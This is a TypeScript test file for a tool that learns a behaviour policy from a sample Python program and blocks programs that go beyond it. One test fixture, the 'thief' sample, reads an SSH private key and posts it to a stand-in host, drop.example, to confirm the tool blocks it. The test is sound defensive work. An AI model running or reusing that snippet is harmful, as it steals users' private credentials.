import { describe, expect, it } from 'vitest';
import { parsePolicy } from '../policy/load.ts';
import { DEFAULT_POLICY } from '../policy/policy.ts';
import { policyText } from '../policy/write.ts';
import { sampleOfSource } from '../sample/load.ts';
import { check, learn } from './examine.ts';

const WORKS = `import os, subprocess, tempfile, urllib.request

open('out.csv', 'w').write(os.environ.get('HEADER', 'a,b'))
subprocess.run(['ls', '-l'], stdout=subprocess.DEVNULL)
with tempfile.NamedTemporaryFile(suffix='.txt') as made: made.write(b'1')
urllib.request.urlopen('https://api.example.com/v1').read()
`;
const NETWORK = { network: { mode: 'sinkhole' } } as const;

describe('a policy that is learned', () => {
  it('permits what was seen, and the same program under it has nothing to answer for', async () => {
    const sample = sampleOfSource(WORKS, 'python', { entry: 'a.py' });
    const { learned, policyFile, report } = await learn(sample);
    expect(policyFile).toMatchObject({
      imports: { allow: ['os', 'subprocess', 'tempfile', 'urllib'] },
      network: { mode: 'allow', hosts: ['api.example.com:443'] },
      permit: {
        'file.write': ['./out.csv', '/tmp/????????', '/tmp/tmp????????.txt'],
        'network.connect': ['api.example.com:443'],
        'environment.read': ['HEADER'],
        'process.spawn': ['ls -l'],
      },
    });
    expect(learned.denied).toMatchObject([{ target: 'api.example.com:443', source: { file: 'a.py', line: 6 } }]);
    expect(report.verdict).toMatchObject({ decision: 'allow', risk: 0 });
    const written = policyText(policyFile, learned, 'Learned.', (text) => text);
    expect(written).toContain('    - ./out.csv # a.py:3\n');
    expect((await parsePolicy('learned.yaml', written)).permit).toEqual(learned.permit);

    const policy = { ...DEFAULT_POLICY, ...NETWORK, permit: learned.permit };
    expect((await check(sample, { policy })).verdict).toMatchObject({ decision: 'allow', risk: 0 });
  });

  it('does not permit what the program did not do', async () => {
    const { learned } = await learn(sampleOfSource(WORKS, 'python', { entry: 'a.py' }));
    const policy = { ...DEFAULT_POLICY, ...NETWORK, permit: learned.permit };
    const changed = WORKS.replace("'out.csv'", "'/tmp/elsewhere.csv'").replace('api.example.com', 'other.example.com');
    const report = await check(sampleOfSource(changed, 'python', { entry: 'a.py' }), { policy });
    const beyond = report.findings.filter(({ rule }) => rule === 'beyond-permits');
    expect(new Set(beyond.map(({ locations: [place] }) => place?.line))).toEqual(new Set([3, 6]));
    expect(report.verdict.decision).toBe('block');
  });

  it('lifts no critical finding', async () => {
    const thief = `import urllib.request
key = open('/home/user/.ssh/id_rsa').read()
try: urllib.request.urlopen('https://drop.example/', data=key.encode())
except OSError: pass
`;
    const { report } = await learn(sampleOfSource(thief, 'python'));
    expect(report.verdict.decision).toBe('block');
  });
});
